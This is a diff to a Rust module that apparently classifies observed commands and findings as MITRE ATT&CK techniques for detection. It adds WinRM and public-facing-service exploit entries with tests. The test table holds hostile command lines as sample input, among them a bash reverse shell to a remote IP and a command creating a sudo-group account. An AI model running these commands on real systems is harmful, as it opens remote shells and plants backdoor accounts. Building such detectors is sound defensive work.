@@ -11,6 +11,8 @@ macro_rules! acts {
 
 acts! {
     SCAN_WEB = Reconnaissance "T1595.003" "Wordlist Scanning" "guessed paths on the web server";
+    // First of its technique, so what a finding alone says: rules give it to any service that others can reach.
+    EXPLOIT_SERVICE = InitialAccess "T1190" "Exploit Public-Facing Application" "ran commands through a service that others can reach";
     EXPLOIT_WEB = InitialAccess "T1190" "Exploit Public-Facing Application" "made the web application run commands";
     TRY_WEB = InitialAccess "T1190" "Exploit Public-Facing Application" "sent requests to the web server";
     TRY_LOGON = InitialAccess "T1078" "Valid Accounts" "tried to sign in from outside";
@@ -55,6 +57,7 @@ acts! {
     TUNNEL = CommandAndControl "T1572" "Protocol Tunneling" "opened a tunnel";
     SSH = LateralMovement "T1021.004" "SSH" "signed in over ssh";
     RDP = LateralMovement "T1021.001" "Remote Desktop Protocol" "signed in by remote desktop";
+    WINRM = LateralMovement "T1021.006" "Windows Remote Management" "ran a PowerShell session from another machine";
     SMB = LateralMovement "T1021.002" "SMB/Windows Admin Shares" "signed in over the network";
     ARCHIVE = Collection "T1560.001" "Archive via Utility" "packed files";
     STAGE = Collection "T1074.001" "Local Data Staging" "gathered files";
@@ -110,6 +113,8 @@ pub(crate) fn of_command(name: &str, cmd_line: &str) -> Option<Action> {
             }
         }
         "pkexec" => SETUID,
+        // The host process of a remote session; nothing else starts it.
+        "wsmprovhost" => WINRM,
         "whoami" | "id" | "w" | "who" | "last" | "lastlog" | "users" | "groups" | "quser" | "qwinsta" | "logname" => USERS,
         "hostname" | "uname" | "lsb_release" | "hostnamectl" | "lscpu" | "dmesg" | "systeminfo" | "uptime" | "lsmod" | "arch" => {
             SYSTEM
@@ -365,6 +370,11 @@ mod tests {
     use super::*;
 
     #[test]
+    fn a_findings_technique_claims_no_web_server() {
+        assert_eq!(by_technique("T1190"), Some(EXPLOIT_SERVICE));
+    }
+
+    #[test]
     fn commands_mean_what_they_do() {
         for (cmd, want) in [
             ("id", "T1033"),
@@ -383,6 +393,7 @@ mod tests {
             ("touch -r /etc/hostname /etc/x", "T1070.006"),
             ("useradd -m -s /bin/bash -G sudo svc", "T1136.001"),
             ("nmap -sT 10.0.0.0/24", "T1046"),
+            (r"C:\windows\system32\wsmprovhost.exe -Embedding", "T1021.006"),
             ("pg_dump -h db shipments", "T1213.006"),
             ("bash -c bash -i >& /dev/tcp/203.0.113.66/443 0>&1", "T1059.004"),
         ] {
